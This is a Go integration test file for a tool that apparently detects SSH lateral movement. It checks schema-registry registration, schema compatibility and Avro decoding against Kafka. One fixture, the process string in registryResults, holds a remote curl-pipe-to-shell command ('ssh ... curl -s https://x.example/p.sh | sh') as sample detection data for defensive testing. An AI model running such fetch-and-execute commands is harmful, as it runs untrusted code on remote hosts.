package integration

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/linkedin/goavro/v2"
	"github.com/testcontainers/testcontainers-go"
	"github.com/testcontainers/testcontainers-go/wait"
	"github.com/twmb/franz-go/pkg/kgo"

	"github.com/sshlateral/sshlateral/processor"
	"github.com/sshlateral/sshlateral/producer"
	"github.com/sshlateral/sshlateral/schemas"
)

const (
	envRegistryImage = "SSHLATERAL_REGISTRY_IMAGE"
	// defaultRegistryImage is used when SSHLATERAL_REGISTRY_IMAGE is unset; it
	// reads the same QUARKUS_*/APICURIO_* variables startRegistry sets.
	defaultRegistryImage = "apicurio/apicurio-registry:3.0.9"
	// registryStartTimeout bounds image pull, container start and readiness.
	registryStartTimeout = 3 * time.Minute
	// ccompatPath is where Apicurio serves the Confluent-compatible API.
	ccompatPath = "/apis/ccompat/v7"
)

// registryServer is Apicurio Registry in a container on the host network.
type registryServer struct {
	ctr *testcontainers.DockerContainer
	url string // the Confluent-compatible API
}

// startRegistry starts Apicurio Registry on a free loopback port; see
// startRegistryOn.
func startRegistry(t *testing.T) *registryServer {
	t.Helper()
	return startRegistryOn(t, freeLoopbackPorts(t, 1)[0])
}

// startRegistryOn starts Apicurio Registry (in-memory storage, global
// compatibility BACKWARD) from SSHLATERAL_REGISTRY_IMAGE, or the official
// image, on 127.0.0.1:port and terminates it when the test ends. It skips the
// test unless SSHLATERAL_INTEGRATION=1; when that is set, any failure to start
// is fatal.
func startRegistryOn(t *testing.T, port int) *registryServer {
	t.Helper()
	if !integrationEnabled() {
		t.Skipf("real schema registry disabled: set %s=1 (and %s, see integration/registryimage/build.sh) to run it", envIntegration, envRegistryImage)
	}
	image := os.Getenv(envRegistryImage)
	if image == "" {
		image = defaultRegistryImage
	}
	base := "http://" + net.JoinHostPort("127.0.0.1", strconv.Itoa(port))
	env := map[string]string{
		// registryimage/entrypoint.sh
		"REGISTRY_PORT":          strconv.Itoa(port),
		"REGISTRY_COMPATIBILITY": "BACKWARD",
		// The official image is configured through Quarkus' variables.
		"QUARKUS_HTTP_HOST":                   "127.0.0.1",
		"QUARKUS_HTTP_PORT":                   strconv.Itoa(port),
		"APICURIO_RULES_GLOBAL_COMPATIBILITY": "BACKWARD",
	}
	start := time.Now()
	ctr, err := runHostContainer(t, image, env, registryStartTimeout, registryReady{url: base + "/health/ready", timeout: registryStartTimeout})
	if err != nil {
		t.Fatalf("start schema registry from image %q on %s: %v\n"+
			"(no registry here? build the image with integration/registryimage/build.sh and set %s to the tag it prints)\n%s",
			image, base, err, envRegistryImage, containerLogTail(ctr, 40))
	}
	t.Logf("schema registry from %s ready on %s in %s", image, base, time.Since(start).Round(time.Millisecond))
	return &registryServer{ctr: ctr, url: base + ccompatPath}
}

// registryReady waits for Apicurio's readiness endpoint and fails fast when
// the container exits. Each probe has its own timeout: a registry may leave a
// request unanswered.
type registryReady struct {
	url     string
	timeout time.Duration
}

func (r registryReady) String() string { return "schema registry readiness at " + r.url }

func (r registryReady) WaitUntilReady(ctx context.Context, target wait.StrategyTarget) error {
	ctx, cancel := context.WithTimeout(ctx, r.timeout)
	defer cancel()
	client := &http.Client{Timeout: 2 * time.Second}
	var lastErr error
	for {
		state, err := target.State(ctx)
		if err != nil {
			return fmt.Errorf("container state: %w", err)
		}
		if !state.Running {
			return fmt.Errorf("registry container is %s (exit code %d) before %s answered", state.Status, state.ExitCode, r.url)
		}
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, r.url, nil)
		if err != nil {
			return err
		}
		resp, err := client.Do(req)
		if err == nil {
			resp.Body.Close()
			if resp.StatusCode == http.StatusOK {
				return nil
			}
			err = fmt.Errorf("status %s", resp.Status)
		}
		lastErr = err
		select {
		case <-ctx.Done():
			return fmt.Errorf("%s not ready after %s: %w", r.url, r.timeout, lastErr)
		case <-time.After(200 * time.Millisecond):
		}
	}
}

// newRegistryClient returns a producer.Registry for url with fast retries.
func newRegistryClient(t *testing.T, url string, logger *slog.Logger) *producer.Registry {
	t.Helper()
	cfg := producer.DefaultRegistryConfig()
	cfg.URL = url
	cfg.RequestTimeout = 5 * time.Second
	cfg.RetryBackoff, cfg.MaxRetryBackoff = 100*time.Millisecond, time.Second
	cfg.Logger = logger
	reg, err := producer.NewRegistry(cfg)
	if err != nil {
		t.Fatalf("registry client: %v", err)
	}
	return reg
}

// riskRecordWithField returns RiskRecord with one more field: optional (a
// ["null","string"] union with default null, a compatible change) or
// required (a string without default, which BACKWARD refuses).
func riskRecordWithField(t *testing.T, name string, optional bool) string {
	t.Helper()
	var doc map[string]any
	if err := json.Unmarshal([]byte(schemas.RiskRecordSchema), &doc); err != nil {
		t.Fatal(err)
	}
	field := map[string]any{"name": name, "type": "string"}
	if optional {
		field = map[string]any{"name": name, "type": []any{"null", "string"}, "default": nil}
	}
	doc["fields"] = append(doc["fields"].([]any), field)
	b, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// registryResults are two result rows, four risk records.
func registryResults() []processor.Result {
	ws := time.Date(2024, 3, 5, 9, 50, 0, 0, time.UTC)
	row := func(id, dest string, n int64) processor.Result {
		return processor.Result{
			AlertID: id,
			Key: processor.GroupKey{Dest: dest, User: "deploy", ParentProcessName: "bash", ProcessName: "ssh",
				Process: "ssh " + dest + " curl -s https://x.example/p.sh | sh", ProcessID: "4242", ParentProcessID: "4100"},
			Count: n, FirstSeen: ws.Add(time.Minute), LastSeen: ws.Add(2 * time.Minute),
			WindowStart: ws, WindowEnd: ws.Add(time.Hour), Emission: processor.EmissionFinal,
			ParentProcess: "/bin/bash /opt/deploy.sh",
		}
	}
	return []processor.Result{row("a1", "web-01", 3), row("a2", "db-02", 1)}
}

// requirePythonRegistry checks that confluent-kafka's registry client imports.
func requirePythonRegistry(t *testing.T, python string) {
	t.Helper()
	out, err := exec.Command(python, "-c", "import confluent_kafka.schema_registry.avro").CombinedOutput()
	if err == nil {
		return
	}
	if integrationEnabled() {
		t.Fatalf("python package confluent-kafka[avro] is required: %v\n%s", err, out)
	}
	t.Skipf("confluent-kafka[avro] not installed (pip install -r integration/verify/requirements.txt): %s", out)
}

// pythonRecord is one line of verify/read_registry.py.
type pythonRecord struct {
	Position string         `json:"position"`
	SchemaID int32          `json:"schema_id"`
	Record   map[string]any `json:"record"`
}

// readThroughRegistry runs verify/read_registry.py on topic and returns its
// records.
func readThroughRegistry(t *testing.T, python string, b testBroker, topic, registryURL string, want int, extra ...string) []pythonRecord {
	t.Helper()
	_, file, _, _ := runtime.Caller(0)
	script := filepath.Join(filepath.Dir(file), "verify", "read_registry.py")
	args := append([]string{script, "--bootstrap", strings.Join(b.Seeds(), ","), "--topic", topic,
		"--registry", registryURL, "--max", strconv.Itoa(want), "--timeout", "30"}, extra...)
	cmd := exec.Command(python, args...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("read_registry.py: %v\n%s", err, stderr.String())
	}
	var recs []pythonRecord
	sc := bufio.NewScanner(&stdout)
	sc.Buffer(make([]byte, 1<<20), 16<<20)
	for sc.Scan() {
		var r pythonRecord
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatalf("read_registry.py printed a non-JSON line: %v: %s", err, sc.Text())
		}
		recs = append(recs, r)
	}
	if len(recs) != want {
		t.Fatalf("read_registry.py decoded %d records, want %d\n%s", len(recs), want, stderr.String())
	}
	return recs
}

// TestSchemaRegistry runs the registry's life cycle against Apicurio Registry
// on both brokers: the risk-record schema is registered under <topic>-value,
// records carry the id the registry assigned, confluent-kafka's registry-aware
// AvroDeserializer reads them, a compatible v2 becomes version 2 and v1
// records still decode, and an incompatible change is refused with the
// registry's message.
func TestSchemaRegistry(t *testing.T) {
	python := requireTool(t, "python3")
	requirePythonRegistry(t, python)
	alertsBin := buildBinary(t)
	server := startRegistry(t)
	v2Schema := riskRecordWithField(t, "tenant", true)
	v2File := filepath.Join(t.TempDir(), "risk_record_v2.avsc")
	if err := os.WriteFile(v2File, []byte(v2Schema), 0o644); err != nil {
		t.Fatal(err)
	}

	forEachBroker(t, func(t *testing.T, b testBroker) {
		ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
		defer cancel()
		// One registry serves both brokers: distinct topics, distinct subjects.
		topic := "sshlateral.risk." + b.Name()
		createTopic(t, b, topic, 1, nil)
		reg := newRegistryClient(t, server.url, nil)

		v1, err := reg.RegisterRiskRecord(ctx, topic)
		if err != nil {
			t.Fatalf("register v1: %v", err)
		}
		if v1.Subject != topic+"-value" || v1.Version != 1 || v1.ID <= 0 {
			t.Fatalf("v1 registered as %+v, want version 1 of %s-value", v1, topic)
		}
		enc, err := producer.NewEncoder(producer.EncoderConfig{Topic: topic, Wire: producer.WireConfluent, SchemaID: int64(v1.ID)})
		if err != nil {
			t.Fatal(err)
		}
		v1Records, err := enc.Records(registryResults(), nil)
		if err != nil {
			t.Fatal(err)
		}

		v2, err := reg.RegisterSchema(ctx, topic, schemas.RiskRecordFullName, v2Schema)
		if err != nil {
			t.Fatalf("register compatible v2: %v", err)
		}
		if v2.Subject != v1.Subject || v2.Version != 2 || v2.ID == v1.ID {
			t.Fatalf("v2 registered as %+v after v1 %+v, want version 2 with its own id", v2, v1)
		}
		// A v2 writer: the first v1 record plus tenant.
		dec1, err := producer.NewDecoder()
		if err != nil {
			t.Fatal(err)
		}
		native, err := dec1.Decode(v1Records[0].Value)
		if err != nil {
			t.Fatal(err)
		}
		native["tenant"] = goavro.Union("string", "acme")
		codec, err := goavro.NewCodec(v2Schema)
		if err != nil {
			t.Fatal(err)
		}
		v2Value, err := codec.BinaryFromNative(producer.AppendConfluentHeader(nil, v2.ID), native)
		if err != nil {
			t.Fatal(err)
		}
		records := append(v1Records, &kgo.Record{Topic: topic, Key: v1Records[0].Key, Value: v2Value})
		cl := newClient(t, b, kgo.RequiredAcks(kgo.AllISRAcks()))
		if err := cl.ProduceSync(ctx, records...).FirstErr(); err != nil {
			t.Fatalf("produce to %s: %v", topic, err)
		}

		_, err = reg.RegisterSchema(ctx, topic, schemas.RiskRecordFullName, riskRecordWithField(t, "site", false))
		var incompatible *producer.IncompatibleError
		if !errors.As(err, &incompatible) || !strings.Contains(incompatible.Message, "Incompatible") {
			t.Fatalf("register a required new field: %v; want an *IncompatibleError with the registry's message", err)
		}
		t.Logf("incompatible change refused: %v", err)

		// Our registry-aware decoder, as alerts uses it, reads every record
		// into today's schema; with v2 as reader, v1 records get tenant null.
		got := consumeFromStart(ctx, t, b, topic, len(records))
		for _, reader := range []struct{ name, schema string }{{"v1", ""}, {"v2", v2Schema}} {
			dec, err := reg.NewDecoder(reader.schema)
			if err != nil {
				t.Fatal(err)
			}
			for i, value := range got {
				id, _, err := producer.SplitConfluent([]byte(value))
				wantID := v1.ID
				if i == len(got)-1 {
					wantID = v2.ID
				}
				if err != nil || id != wantID {
					t.Fatalf("record %d carries schema id %d (%v), want %d", i, id, err, wantID)
				}
				m, err := dec.Decode(ctx, []byte(value))
				if err != nil {
					t.Fatalf("%s reader, record %d: %v", reader.name, i, err)
				}
				tenant, has := m["tenant"]
				switch {
				case reader.name == "v1" && has:
					t.Fatalf("v1 reader, record %d has tenant %v", i, tenant)
				case reader.name == "v2" && i < len(got)-1 && tenant != nil:
					t.Fatalf("v2 reader, v1 record %d: tenant %v, want the default null", i, tenant)
				case reader.name == "v2" && i == len(got)-1 && fmt.Sprint(tenant) != "map[string:acme]":
					t.Fatalf("v2 reader, v2 record: tenant %v, want acme", tenant)
				}
				if m["alert_id"] != string(records[i].Key) {
					t.Fatalf("%s reader, record %d: alert_id %v, want %s", reader.name, i, m["alert_id"], records[i].Key)
				}
			}
		}

		// The alerts command itself reads the v1 and v2 records through the
		// registry into today's schema.
		out, err := exec.CommandContext(ctx, alertsBin, "alerts", "--brokers", strings.Join(b.Seeds(), ","), "--topic", topic,
			"--schema-registry", server.url, "--max", strconv.Itoa(len(records)), "--idle-exit", "30s").CombinedOutput()
		if err != nil {
			t.Fatalf("alerts --schema-registry: %v\n%s", err, out)
		}
		var lines []string
		for _, l := range strings.Split(strings.TrimSpace(string(out)), "\n") {
			if strings.HasPrefix(l, "{") {
				lines = append(lines, l)
			}
		}
		if len(lines) != len(records) {
			t.Fatalf("alerts printed %d records, want %d:\n%s", len(lines), len(records), out)
		}
		for i, l := range lines {
			var m map[string]any
			if err := json.Unmarshal([]byte(l), &m); err != nil || m["alert_id"] != string(records[i].Key) {
				t.Fatalf("alerts record %d: %v (%v), want alert_id %s", i, l, err, records[i].Key)
			}
		}

		// confluent-kafka reads each record with the writer schema it fetches
		// by id, then resolved into v2.
		for _, extra := range [][]string{nil, {"--reader-schema", v2File}} {
			py := readThroughRegistry(t, python, b, topic, server.url, len(records), extra...)
			for i, r := range py {
				if i < len(v1Records) && r.SchemaID != v1.ID || i == len(v1Records) && r.SchemaID != v2.ID {
					t.Fatalf("python record %d (%s) has schema id %d; v1 is %d, v2 %d", i, r.Position, r.SchemaID, v1.ID, v2.ID)
				}
				if r.Record["alert_id"] != string(records[i].Key) || r.Record["risk_score"] != float64(processor.RiskScore) {
					t.Fatalf("python record %d: %v", i, r.Record)
				}
				tenant, has := r.Record["tenant"]
				wantTenant := i == len(v1Records) || extra != nil
				if has != wantTenant || i == len(v1Records) && tenant != "acme" {
					t.Fatalf("python record %d (reader %v): tenant %v (present %v)", i, extra, tenant, has)
				}
			}
			t.Logf("%s: confluent-kafka AvroDeserializer (reader %v) read %d records through the registry", b.Name(), extra, len(py))
		}
	})
}

// TestSchemaRegistryOutageAtStart registers while no registry listens yet:
// the client retries, and once the registry is up it gets the real id.
func TestSchemaRegistryOutageAtStart(t *testing.T) {
	if !integrationEnabled() {
		t.Skipf("real schema registry disabled: set %s=1 (and %s, see integration/registryimage/build.sh) to run it", envIntegration, envRegistryImage)
	}
	port := freeLoopbackPorts(t, 1)[0]
	url := "http://" + net.JoinHostPort("127.0.0.1", strconv.Itoa(port)) + ccompatPath
	var retries atomic.Int64
	logger := slog.New(countingHandler{n: &retries})
	reg := newRegistryClient(t, url, logger)

	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	type result struct {
		reg producer.Registration
		err error
	}
	done := make(chan result, 1)
	go func() {
		r, err := reg.RegisterRiskRecord(ctx, "sshlateral.risk")
		done <- result{r, err}
	}()
	waitFor(t, 10*time.Second, "a failed registration attempt", func() bool { return retries.Load() > 0 })
	select {
	case r := <-done:
		t.Fatalf("registration ended before the registry started: %+v, %v", r.reg, r.err)
	default:
	}

	startRegistryOn(t, port)
	r := <-done
	if r.err != nil {
		t.Fatalf("register after the outage: %v", r.err)
	}
	// The id is the registry's: a fresh client looks the schema up under it.
	fresh := newRegistryClient(t, url, nil)
	again, err := fresh.RegisterRiskRecord(ctx, "sshlateral.risk")
	if err != nil || again != r.reg || r.reg.Version != 1 {
		t.Fatalf("registration after the outage %+v; the registry now answers %+v, %v", r.reg, again, err)
	}
	t.Logf("registered as %+v after %d failed attempts", r.reg, retries.Load())
}

// countingHandler counts the records logged to it: the retry warnings.
type countingHandler struct{ n *atomic.Int64 }

func (h countingHandler) Enabled(context.Context, slog.Level) bool { return true }
func (h countingHandler) Handle(context.Context, slog.Record) error {
	h.n.Add(1)
	return nil
}
func (h countingHandler) WithAttrs([]slog.Attr) slog.Handler { return h }
func (h countingHandler) WithGroup(string) slog.Handler      { return h }
